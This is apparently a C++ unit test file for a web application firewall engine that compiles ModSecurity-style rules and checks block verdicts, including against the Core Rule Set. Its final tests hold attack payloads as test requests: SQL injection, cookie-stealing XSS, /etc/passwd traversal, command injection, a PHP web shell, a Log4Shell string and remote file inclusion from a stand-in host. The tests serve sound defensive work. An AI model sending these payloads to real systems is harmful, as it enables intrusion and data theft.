// The rule set compiler and the transaction together: SecLang text in, verdicts out.
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>

#include "seclang/rule_set.h"
#include "seclang/transaction.h"

namespace rampart::seclang {
namespace {

struct Request {
  std::string method = "GET";
  std::string uri = "/";
  std::vector<std::pair<std::string, std::string>> headers = {{"Host", "example.test"},
                                                              {"User-Agent", "test/1.0"}};
  std::string body;
};

std::shared_ptr<const RuleSet> load(const std::string& text,
                                    std::vector<LoadError>* errors = nullptr) {
  std::vector<LoadError> local;
  LoadOptions options;
  auto set = RuleSet::load({}, text, options, errors ? *errors : local);
  if (!errors) {
    for (const auto& e : local) ADD_FAILURE() << describe(e.where) << ": " << e.message;
  }
  return set;
}

// Runs phases 1 and 2 and returns the transaction's results.
struct Outcome {
  Intervention intervention;
  std::vector<int64_t> ids;
  std::string anomaly;
  std::vector<std::string> messages;
};

Outcome run(const RuleSet& rules, const Request& r,
            std::vector<std::pair<std::string, std::string>> initial = {}) {
  std::vector<HeaderView> headers;
  for (const auto& [n, v] : r.headers) headers.push_back({n, v});
  RequestData data;
  data.method = r.method;
  data.uri = r.uri;
  data.http_version = "1.1";
  data.headers = headers;
  data.remote_addr = "127.0.0.1";
  Transaction tx(rules, data, initial);
  tx.process_request_headers();
  tx.process_request_body(r.body, false);
  Outcome out;
  out.intervention = tx.intervention();
  for (const auto& m : tx.matches()) {
    out.ids.push_back(m.rule_id);
    out.messages.push_back(m.message);
  }
  out.anomaly = std::string(tx.tx("anomaly"));
  return out;
}

const char* kEngineOn = "SecRuleEngine On\nSecRequestBodyAccess On\n";

TEST(SeclangEngine, DenyOnArgumentMatch) {
  auto rules = load(std::string(kEngineOn) +
                    "SecRule ARGS \"@rx attack\" \"id:1,phase:2,deny,status:406,msg:'hit "
                    "%{MATCHED_VAR_NAME}'\"\n");
  ASSERT_TRUE(rules);
  Request r;
  r.uri = "/search?q=an+attack&x=1";
  auto out = run(*rules, r);
  EXPECT_TRUE(out.intervention.disruptive);
  EXPECT_EQ(out.intervention.status, 406);
  EXPECT_EQ(out.intervention.rule_id, 1);
  ASSERT_EQ(out.messages.size(), 1u);
  EXPECT_EQ(out.messages[0], "hit ARGS:q");
  r.uri = "/search?q=benign";
  EXPECT_FALSE(run(*rules, r).intervention.disruptive);
}

TEST(SeclangEngine, DetectionOnlyRecordsButDoesNotBlock) {
  auto rules = load(
      "SecRuleEngine DetectionOnly\n"
      "SecRule REQUEST_HEADERS:User-Agent \"@contains sqlmap\" \"id:2,phase:1,deny\"\n");
  ASSERT_TRUE(rules);
  Request r;
  r.headers.push_back({"user-agent", "sqlmap/1.5"});
  auto out = run(*rules, r);
  EXPECT_FALSE(out.intervention.disruptive);
  EXPECT_EQ(out.ids, std::vector<int64_t>{2});
}

TEST(SeclangEngine, SetvarRunsForEveryMatchedValue) {
  // ModSecurity v3 adds the score once per matching value, not once per rule.
  auto rules =
      load(std::string(kEngineOn) +
           "SecRule ARGS \"@rx evil\" \"id:3,phase:2,pass,nolog,setvar:tx.anomaly=+5\"\n"
           "SecRule TX:ANOMALY \"@ge 10\" \"id:4,phase:2,deny,msg:'score %{tx.anomaly}'\"\n");
  ASSERT_TRUE(rules);
  Request r;
  r.uri = "/?a=evil&b=evil";
  auto out = run(*rules, r);
  EXPECT_EQ(out.anomaly, "10");
  EXPECT_TRUE(out.intervention.disruptive);
  EXPECT_EQ(out.messages, std::vector<std::string>{"score 10"});
  r.uri = "/?a=evil&b=fine";
  out = run(*rules, r);
  EXPECT_EQ(out.anomaly, "5");
  EXPECT_FALSE(out.intervention.disruptive);
}

TEST(SeclangEngine, ChainNeedsEveryLink) {
  auto rules = load(std::string(kEngineOn) +
                    "SecRule REQUEST_METHOD \"@streq POST\" \"id:5,phase:2,deny,chain\"\n"
                    "  SecRule ARGS:x \"@eq 1\" \"t:none\"\n");
  ASSERT_TRUE(rules);
  Request r;
  r.uri = "/?x=1";
  EXPECT_FALSE(run(*rules, r).intervention.disruptive);  // GET: first link fails
  r.method = "POST";
  EXPECT_TRUE(run(*rules, r).intervention.disruptive);
  r.uri = "/?x=2";
  EXPECT_FALSE(run(*rules, r).intervention.disruptive);  // second link fails
}

TEST(SeclangEngine, SkipAfterJumpsToMarker) {
  auto rules = load(std::string(kEngineOn) +
                    "SecRule ARGS:skip \"@streq yes\" \"id:6,phase:1,pass,nolog,skipAfter:END\"\n"
                    "SecRule ARGS \"@rx .\" \"id:7,phase:1,deny\"\n"
                    "SecMarker END\n");
  ASSERT_TRUE(rules);
  Request r;
  r.uri = "/?skip=yes";
  EXPECT_FALSE(run(*rules, r).intervention.disruptive);
  r.uri = "/?skip=no";
  EXPECT_TRUE(run(*rules, r).intervention.disruptive);
}

TEST(SeclangEngine, CtlRemovesRulesAndTargetsForThisRequestOnly) {
  auto rules = load(std::string(kEngineOn) +
                    "SecRule REQUEST_FILENAME \"@streq /login\" "
                    "\"id:10,phase:1,pass,nolog,ctl:ruleRemoveTargetById=12;ARGS:password\"\n"
                    "SecRule REQUEST_FILENAME \"@streq /admin\" "
                    "\"id:11,phase:1,pass,nolog,ctl:ruleRemoveById=12\"\n"
                    "SecRule ARGS \"@rx '\" \"id:12,phase:2,deny\"\n");
  ASSERT_TRUE(rules);
  Request r;
  r.uri = "/login?password=it's";
  EXPECT_FALSE(run(*rules, r).intervention.disruptive);
  r.uri = "/login?user=o'brien";
  EXPECT_TRUE(run(*rules, r).intervention.disruptive);
  r.uri = "/admin?user=o'brien";
  EXPECT_FALSE(run(*rules, r).intervention.disruptive);
  r.uri = "/other?password=it's";
  EXPECT_TRUE(run(*rules, r).intervention.disruptive);
}

TEST(SeclangEngine, LoadTimeExceptions) {
  auto rules = load(std::string(kEngineOn) +
                    "SecRule ARGS \"@rx bad\" \"id:20,phase:2,deny\"\n"
                    "SecRule ARGS \"@rx worse\" \"id:21,phase:2,deny,tag:'attack-x'\"\n"
                    "SecRuleUpdateTargetById 20 \"!ARGS:comment\"\n"
                    "SecRuleRemoveByTag attack-x\n");
  ASSERT_TRUE(rules);
  Request r;
  r.uri = "/?comment=bad";
  EXPECT_FALSE(run(*rules, r).intervention.disruptive);
  r.uri = "/?title=bad";
  EXPECT_TRUE(run(*rules, r).intervention.disruptive);
  r.uri = "/?title=worse";
  EXPECT_FALSE(run(*rules, r).intervention.disruptive);
  EXPECT_EQ(rules->find(21), nullptr);
}

TEST(SeclangEngine, BlockUsesThePhaseDefault) {
  auto rules = load(std::string(kEngineOn) +
                    "SecDefaultAction \"phase:2,log,deny,status:418\"\n"
                    "SecRule ARGS \"@rx x\" \"id:30,phase:2,block\"\n");
  ASSERT_TRUE(rules);
  Request r;
  r.uri = "/?a=x";
  auto out = run(*rules, r);
  EXPECT_TRUE(out.intervention.disruptive);
  EXPECT_EQ(out.intervention.status, 418);
}

TEST(SeclangEngine, CountsRegexKeysAndTransformations) {
  auto rules = load(
      std::string(kEngineOn) +
      "SecRule &ARGS \"@ge 3\" \"id:40,phase:2,pass,setvar:tx.many=1\"\n"
      "SecRule ARGS:/^sel_/ \"@streq drop\" \"id:41,phase:2,pass,t:lowercase,setvar:tx.sel=1\"\n"
      "SecRule TX:/^(many|sel)$/ \"@eq 1\" \"id:42,phase:2,deny\"\n");
  ASSERT_TRUE(rules);
  Request r;
  r.uri = "/?a=1&b=2";
  EXPECT_FALSE(run(*rules, r).intervention.disruptive);
  r.uri = "/?a=1&b=2&c=3";
  EXPECT_TRUE(run(*rules, r).intervention.disruptive);
  r.uri = "/?sel_x=DROP";
  auto out = run(*rules, r);
  EXPECT_TRUE(out.intervention.disruptive);
  EXPECT_EQ(out.ids, (std::vector<int64_t>{41, 42}));
}

// Key regexes that are literals (the CRS's `!REQUEST_COOKIES:/__utm/`, `TX:/^header_name_/`,
// `TX:/LEAKAGE\\\/ERRORS/`) are matched without RE2; they must select what RE2 selects:
// case-insensitive, anchors, escaped punctuation, a trailing `x*`, and non-ASCII keys
// that RE2's Unicode case folding matches (U+212A KELVIN SIGN is a 'k').
TEST(SeclangEngine, LiteralKeyRegexesSelectAsRegexesDo) {
  auto rules = load(std::string(kEngineOn) +
                    "SecRule &ARGS:/__utm/ \"@eq 2\" \"id:60,phase:2,pass\"\n"
                    "SecRule &ARGS:/^pre_/ \"@eq 2\" \"id:61,phase:2,pass\"\n"
                    "SecRule &ARGS:/_end$/ \"@eq 2\" \"id:62,phase:2,pass\"\n"
                    "SecRule &ARGS:/^exact$/ \"@eq 1\" \"id:63,phase:2,pass\"\n"
                    "SecRule &ARGS:'/lea\\\\\\/k/' \"@eq 1\" \"id:64,phase:2,pass\"\n"
                    "SecRule &ARGS:/kel_*/ \"@eq 2\" \"id:65,phase:2,pass\"\n"
                    "SecRule &ARGS:/sk/ \"@eq 1\" \"id:66,phase:2,pass\"\n"
                    "SecRule &ARGS:/pre_/ \"@eq 3\" \"id:67,phase:2,pass\"\n"
                    "SecRule ARGS:/^pre_/|!ARGS:/_end$/ \"@rx .\" \"id:68,phase:2,pass,"
                    "setvar:tx.selected=+1\"\n"
                    "SecRule TX:/^sel/ \"@eq 1\" \"id:69,phase:2,pass\"\n");
  ASSERT_TRUE(rules);
  Request r;
  r.uri =
      "/?__UTMA=1&x__utmz=2&utm=3&PRE_a=1&xpre_b=2&a_END=1&a_end_x=2&EXACT=1&exactly=2"
      "&lea%5C%2Fk=1&lea%2Fk=2&KEL=1&kel__=2&ke=3&%C5%BF%E2%84%AA=1&pre_end=1";
  auto out = run(*rules, r);
  EXPECT_EQ(out.ids, (std::vector<int64_t>{60, 61, 62, 63, 64, 65, 66, 67, 68, 69}));
}

// Chains that start alike share their common part per value (a chain starts from its
// prefix's cached result): each chain must still see its own full result, whichever
// rule runs first, for values that change and values that do not.
TEST(SeclangEngine, ChainsSharingAPrefixEachGetTheirOwnResult) {
  auto rules = load(
      std::string(kEngineOn) +
      "SecRule ARGS:a \"@streq a&lt;b\" "
      "\"id:70,phase:2,pass,t:urlDecodeUni,t:lowercase,t:removeWhitespace\"\n"
      "SecRule ARGS:a \"@streq A< B\" \"id:71,phase:2,pass,t:urlDecodeUni,t:htmlEntityDecode\"\n"
      "SecRule ARGS:a \"@streq a&lt; b\" \"id:72,phase:2,pass,t:urlDecodeUni,t:lowercase\"\n"
      "SecRule ARGS:a \"@streq A&lt; B\" \"id:73,phase:2,pass,t:urlDecodeUni\"\n"
      "SecRule ARGS:b \"@streq plain\" "
      "\"id:74,phase:2,pass,t:urlDecodeUni,t:lowercase,t:removeWhitespace\"\n"
      "SecRule ARGS:b \"@streq plain\" \"id:75,phase:2,pass,t:urlDecodeUni\"\n"
      "SecRule ARGS \"@rx ^(?:a&lt;b|plain)$\" "
      "\"id:76,phase:2,pass,t:urlDecodeUni,t:lowercase,t:removeWhitespace,"
      "setvar:tx.both=+1\"\n"
      "SecRule TX:both \"@eq 2\" \"id:77,phase:2,pass\"\n");
  ASSERT_TRUE(rules);
  Request r;
  r.uri = "/?a=%2541%2526lt%253B%2520B&b=plain";
  auto out = run(*rules, r);
  EXPECT_EQ(out.ids, (std::vector<int64_t>{70, 71, 72, 73, 74, 75, 76, 77}));
}

TEST(SeclangEngine, UrlencodedBodyBecomesArgsPost) {
  auto rules = load(std::string(kEngineOn) +
                    "SecRule ARGS_POST:comment \"@contains <script\" \"id:50,phase:2,deny\"\n");
  ASSERT_TRUE(rules);
  Request r;
  r.method = "POST";
  r.headers.push_back({"Content-Type", "application/x-www-form-urlencoded"});
  r.body = "name=a&comment=%3Cscript%3Ealert(1)";
  EXPECT_TRUE(run(*rules, r).intervention.disruptive);
  r.body = "name=a&comment=hello";
  EXPECT_FALSE(run(*rules, r).intervention.disruptive);
}

// Rules reading the same variables through the same transformations share the values
// collected and transformed for the first of them: phase 2 must still see the body's
// arguments, and a target removed by a ctl between two such rules must be gone for the
// second.
TEST(SeclangEngine, RulesSharingValuesSeeEachPhaseAndCtlTargets) {
  auto rules =
      load(std::string(kEngineOn) +
           "SecRule ARGS \"@rx evil\" \"id:60,phase:1,pass,t:lowercase\"\n"
           "SecRule ARGS \"@rx evil\" \"id:61,phase:2,pass,t:lowercase\"\n"
           "SecRule ARGS \"@rx ^trusted\" "
           "\"id:62,phase:2,pass,nolog,t:lowercase,ctl:ruleRemoveTargetById=63;ARGS:note\"\n"
           "SecRule ARGS \"@rx evil\" \"id:63,phase:2,pass,t:lowercase\"\n");
  ASSERT_TRUE(rules);
  Request r;
  r.method = "POST";
  r.uri = "/form?q=fine";
  r.headers.push_back({"Content-Type", "application/x-www-form-urlencoded"});
  r.body = "comment=EVIL";
  EXPECT_EQ(run(*rules, r).ids, (std::vector<int64_t>{61, 63}));
  r.uri = "/form?q=Trusted&note=Evil";
  r.body = "comment=fine";
  EXPECT_EQ(run(*rules, r).ids, (std::vector<int64_t>{60, 61}));
  r.body = "comment=evil";
  EXPECT_EQ(run(*rules, r).ids, (std::vector<int64_t>{60, 61, 63}));
}

// The byte-class prefilter skips a regex whose required bytes a value lacks: a negated
// operator then matches, a multiMatch rule still sees every intermediate form, and values
// sharing a group (and texts shared between chains) are each judged on their own bytes.
TEST(SeclangEngine, ByteClassPrefilterKeepsEveryVerdict) {
  auto rules = load(std::string(kEngineOn) +
                    "SecRule ARGS \"@rx [<>]\" \"id:70,phase:2,pass,t:none\"\n"
                    "SecRule ARGS:q \"!@rx [<>]\" \"id:71,phase:2,pass,t:none\"\n"
                    "SecRule ARGS \"@rx <script\" \"id:72,phase:2,pass,t:urlDecodeUni,"
                    "t:lowercase,multiMatch\"\n"
                    "SecRule ARGS \"@rx [<>]\" \"id:73,phase:2,pass,t:lowercase\"\n");
  ASSERT_TRUE(rules);
  Request r;
  r.uri = "/?q=plain&x=plain";
  EXPECT_EQ(run(*rules, r).ids, (std::vector<int64_t>{71}));
  r.uri = "/?q=plain&x=a%3Cb";
  EXPECT_EQ(run(*rules, r).ids, (std::vector<int64_t>{70, 71, 73}));
  r.uri = "/?q=%3E&x=plain";
  EXPECT_EQ(run(*rules, r).ids, (std::vector<int64_t>{70, 73}));
  // '<' appears only after the rule's own urlDecodeUni (the query was decoded once).
  r.uri = "/?q=plain&x=%253CSCRIPT";
  EXPECT_EQ(run(*rules, r).ids, (std::vector<int64_t>{71, 72}));
}

TEST(SeclangEngine, ReloadedRulesShareTheCompiledPrefilters) {
  // A reload of the same rules must not pay the Vectorscan compile again.
  std::string text = std::string(kEngineOn) +
                     "SecRule ARGS \"@rx (?i)union\\s+select\" \"id:1,phase:2,deny,t:lowercase\"\n"
                     "SecRule ARGS \"@rx <script\" \"id:2,phase:2,deny,t:urlDecodeUni\"\n";
  auto first = load(text);
  auto again = load(text);
  auto other = load(std::string(kEngineOn) +
                    "SecRule ARGS \"@rx (?i)union\\s+all\" \"id:1,phase:2,deny,t:lowercase\"\n");
  ASSERT_TRUE(first && again && other);
  first->build_prefilters();
  again->build_prefilters();
  other->build_prefilters();
  ASSERT_NE(first->prefilters(), nullptr);
  ASSERT_EQ(first->prefilters()->by_chain.size(), again->prefilters()->by_chain.size());
  size_t built = 0;
  for (size_t c = 0; c < first->prefilters()->by_chain.size(); ++c) {
    const RegexPrefilter* p = first->prefilters()->by_chain[c].get();
    EXPECT_EQ(p, again->prefilters()->by_chain[c].get()) << "chain " << c;
    if (p == nullptr) continue;
    ++built;
    for (const auto& q : other->prefilters()->by_chain) EXPECT_NE(p, q.get());
  }
  EXPECT_EQ(built, 2u);
  // The shared prefilters still let the rules match (and only them).
  first.reset();
  Request attack;
  attack.uri = "/?q=1+UNION+SELECT+x";
  EXPECT_EQ(run(*again, attack).ids, std::vector<int64_t>{1});
  Request benign;
  benign.uri = "/?q=" + std::string(200, 'a');  // long enough to be scanned
  EXPECT_FALSE(run(*again, benign).intervention.disruptive);
}

TEST(SeclangEngine, LoadErrorsCarryFileAndLine) {
  std::vector<LoadError> errors;
  auto rules = load(
      "SecRuleEngine On\n"
      "SecRule NOPE \"@rx a\" \"id:1,phase:1,pass\"\n"
      "SecRule ARGS \"@nope a\" \"id:2,phase:1,pass\"\n"
      "SecRule ARGS \"@rx a\" \"id:3,phase:1,pass,t:notatransform\"\n"
      "SecRule ARGS \"@rx a\" \"id:4,phase:1,pass,frobnicate\"\n"
      "SecRule ARGS \"@rx a\" \"id:4,phase:1,pass\"\n"
      "SecRule ARGS \"@rx a\" \"id:5,phase:1,pass,skipAfter:NOWHERE\"\n",
      &errors);
  EXPECT_EQ(rules, nullptr);
  std::vector<int> lines;
  for (const auto& e : errors) lines.push_back(e.where.line);
  for (int line : {2, 3, 4, 5, 6, 7}) {
    EXPECT_NE(std::find(lines.begin(), lines.end(), line), lines.end())
        << "no error on line " << line;
  }
}

// The real CRS from Debian's modsecurity-crs, with ModSecurity's recommended base config.
class CrsTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    const std::string setup = "/etc/modsecurity/crs/crs-setup.conf";
    const std::string dir = "/usr/share/modsecurity-crs/rules";
    if (!std::filesystem::exists(setup) || !std::filesystem::exists(dir)) return;
    std::vector<std::string> files{setup};
    std::vector<std::string> rules;
    for (const auto& entry : std::filesystem::directory_iterator(dir)) {
      if (entry.path().extension() == ".conf") rules.push_back(entry.path().string());
    }
    std::sort(rules.begin(), rules.end());
    files.insert(files.end(), rules.begin(), rules.end());
    LoadOptions options;
    options.adjust_settings = [](EngineSettings& s) {
      s.mode = EngineMode::kOn;
      s.request_body_access = true;
    };
    std::vector<LoadError> errors;
    crs_ = RuleSet::load(files, "", options, errors);
    for (const auto& e : errors) ADD_FAILURE() << describe(e.where) << ": " << e.message;
  }
  static inline std::shared_ptr<const RuleSet> crs_;
};

TEST_F(CrsTest, LoadsAndBlocksSqlInjectionButNotBenignTraffic) {
  if (!crs_) GTEST_SKIP() << "the CRS is not installed";
  EXPECT_GT(crs_->rule_count(), 400u);
  Request benign;
  benign.uri = "/products/search?q=blue+shoes&page=2";
  benign.headers.push_back({"Accept", "text/html"});
  auto out = run(*crs_, benign);
  EXPECT_FALSE(out.intervention.disruptive) << "blocked by " << out.intervention.rule_id;

  Request sqli = benign;
  sqli.uri = "/products/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--";
  out = run(*crs_, sqli);
  EXPECT_TRUE(out.intervention.disruptive);
  EXPECT_EQ(out.intervention.status, 403);
  EXPECT_EQ(out.intervention.rule_id, 949110);
  EXPECT_NE(std::find(out.ids.begin(), out.ids.end(), 949110), out.ids.end());

  Request xss = benign;
  xss.uri = "/comment?text=%3Cscript%3Ealert(document.cookie)%3C/script%3E";
  out = run(*crs_, xss);
  EXPECT_TRUE(out.intervention.disruptive);
}

}  // namespace
}  // namespace rampart::seclang

namespace rampart::seclang {
namespace {

TEST_F(CrsTest, PrefilterChangesNoVerdictAndNoRuleId) {
  if (!crs_) GTEST_SKIP() << "the CRS is not installed";
  std::vector<Request> requests;
  const char* targets[] = {
      "/products?q=blue+suede+shoes&page=2",
      "/s?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
      "/c?text=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
      "/d?file=../../../../etc/passwd",
      "/r?cmd=%3Bcat%20/etc/passwd",
      "/p?x=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E",
      "/j?x=%24%7Bjndi%3Aldap%3A//evil/a%7D",
      "/n?x=require(%27child_process%27).exec(%27id%27)",
      "/i?url=http://evil.example/shell.txt?",
      "/ok?name=O%27Neil&note=it%27s+fine",
  };
  for (const char* t : targets) {
    Request r;
    r.uri = t;
    r.headers.push_back({"Accept", "text/html"});
    r.headers.push_back({"Cookie", "sid=abc123; theme=dark"});
    requests.push_back(r);
  }
  std::vector<Outcome> before;
  for (const auto& r : requests) before.push_back(run(*crs_, r));
  ASSERT_EQ(crs_->prefilters(), nullptr);
  crs_->build_prefilters();
  ASSERT_NE(crs_->prefilters(), nullptr);
  EXPECT_GT(crs_->prefilter_pattern_count(), 200u);
  for (size_t i = 0; i < requests.size(); ++i) {
    Outcome after = run(*crs_, requests[i]);
    EXPECT_EQ(after.intervention.disruptive, before[i].intervention.disruptive) << targets[i];
    EXPECT_EQ(after.ids, before[i].ids) << targets[i];
  }
  EXPECT_TRUE(before[1].intervention.disruptive);  // the list does hold attacks
}

}  // namespace
}  // namespace rampart::seclang
